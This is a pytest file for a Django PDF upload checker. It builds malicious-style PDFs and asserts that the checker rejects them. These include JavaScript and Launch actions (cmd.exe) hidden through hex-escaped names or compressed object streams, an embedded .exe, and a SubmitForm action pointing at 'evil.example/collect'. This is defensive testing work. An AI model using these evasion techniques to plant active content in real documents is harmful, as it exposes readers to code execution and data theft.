"""The PDF check reads the file as a PDF viewer does: escaped names, object streams, every action.

Every file is made here: with pypdf's writer, or object by object where a viewer accepts what
pypdf would never write (hex-escaped names, objects packed in compressed object streams).
"""

import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from common.uploads import clean_pdf
from pathfinders.models import Resource


def pdf_from_objects(objects: dict[int, bytes], packed=()) -> bytes:
    """A PDF with a cross-reference stream; the objects numbered in `packed` go compressed into
    one object stream, so their bytes (names included) appear nowhere in the file as written."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {number: body for number, body in objects.items() if number not in packed}
    for number, body in sorted(plain.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    stream_number = max(objects) + 1
    xref_number = stream_number + 1
    if packed:
        index, content = [], bytearray()
        for number in packed:
            index.append(b"%d %d" % (number, len(content)))
            content += objects[number] + b"\n"
        head = b" ".join(index) + b"\n"
        data = zlib.compress(head + bytes(content))
        offsets[stream_number] = len(out)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            % (
                stream_number,
                len(packed),
                len(head),
                len(data),
            )
        )
        out += b"stream\n" + data + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_number, list(packed).index(number)))
        elif number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def document_opening(action: bytes, packed=()) -> bytes:
    """One blank page; opening the document runs `action` (object 4)."""
    return pdf_from_objects(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            4: action,
        },
        packed=packed,
    )


def written_by_pypdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_action(**entries):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(f"/{key}"): value for key, value in entries.items()}
        )

    return change


def link_annotation(action: DictionaryObject):
    def change(writer):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
                NameObject("/A"): action,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def action(kind, **entries):
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{key}"): value for key, value in entries.items()},
        }
    )


def attachment(writer):
    writer.add_attachment("invoice.exe", b"MZ not really a program")


def upload(data, name="toolkit.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def refusal_code(data) -> str | None:
    try:
        clean_pdf(upload(data))
    except ValidationError as error:
        return error.code
    return None


ATTACKS = {
    "hex-escaped JavaScript action": document_opening(
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    "hex-escaped launch action": document_opening(b"<< /S /L#61unch /F (C:\\\\calc.exe) >>"),
    "JavaScript in a compressed object stream": document_opening(
        b"<< /S /JavaScript /JS (app.alert(1)) >>", packed=(4,)
    ),
    "launch in a compressed object stream": document_opening(
        b"<< /S /Launch /F (cmd.exe) >>", packed=(1, 4)
    ),
    "remote go-to (GoToR)": written_by_pypdf(
        open_action(S=NameObject("/GoToR"), F=TextStringObject("other.pdf"))
    ),
    "form submission (SubmitForm)": written_by_pypdf(
        link_annotation(action("/SubmitForm", F=TextStringObject("https://evil.example/collect")))
    ),
    "form data import (ImportData)": written_by_pypdf(
        open_action(S=NameObject("/ImportData"), F=TextStringObject("data.fdf"))
    ),
    "JavaScript written by pypdf": written_by_pypdf(
        open_action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    ),
    "embedded file": written_by_pypdf(attachment),
    "launch action in a link": written_by_pypdf(
        link_annotation(action("/Launch", F=TextStringObject("cmd.exe")))
    ),
}


@pytest.mark.parametrize("data", ATTACKS.values(), ids=ATTACKS.keys())
def test_active_content_is_refused_however_it_is_written(data):
    # The files are real PDFs: pypdf reads them (a viewer would run them).
    PdfReader(io.BytesIO(data)).pages[0]
    assert refusal_code(data) == "active_content"


def test_the_escaped_and_packed_attacks_hide_from_a_search_of_the_bytes():
    # Why a byte search was not enough: the names are not in the file as written.
    for key in ("hex-escaped JavaScript action", "JavaScript in a compressed object stream"):
        assert b"/JavaScript" not in ATTACKS[key]


BENIGN = {
    "blank page written by pypdf": written_by_pypdf(),
    "web link and an internal go-to": written_by_pypdf(
        link_annotation(action("/URI", URI=TextStringObject("https://www.alliance87.org/")))
    ),
    "page objects in an object stream": document_opening(
        b"<< /S /GoTo /D [3 0 R /Fit] >>", packed=(2, 3, 4)
    ),
}


@pytest.mark.parametrize("data", BENIGN.values(), ids=BENIGN.keys())
def test_plain_pdfs_pass(data):
    assert refusal_code(data) is None
    assert clean_pdf(upload(data)).read() == data


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R\n%%EOF\n",
    ],
    ids=["garbage", "cut dictionary"],
)
def test_garbage_that_starts_like_a_pdf_is_refused_clearly(data):
    assert refusal_code(data) == "unreadable"


def test_a_password_protected_pdf_is_refused():
    def lock(writer):
        writer.encrypt("secret user password", "owner password", algorithm="RC4-128")

    assert refusal_code(written_by_pypdf(lock)) == "unreadable"


@pytest.mark.django_db
def test_the_admin_form_says_why_and_never_fails(secretariat, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    url = reverse("admin:pathfinders_resource_add")
    post = {
        "title": "Toolkit",
        "kind": "guidance_note",
        "language": "en",
        "url": "",
        "description": "",
        "order": 0,
    }
    garbage = upload(b"%PDF-1.4 " + b"\x00\xff" * 500 + b" %%EOF", "random.pdf")
    response = secretariat.post(url, {**post, "file": garbage})
    assert response.status_code == 200
    assert "cannot be read" in response.context["adminform"].form.errors["file"][0]
    hidden = upload(ATTACKS["JavaScript in a compressed object stream"])
    response = secretariat.post(url, {**post, "file": hidden})
    assert response.status_code == 200
    assert "scripts" in response.context["adminform"].form.errors["file"][0]
    assert not Resource.objects.exists()
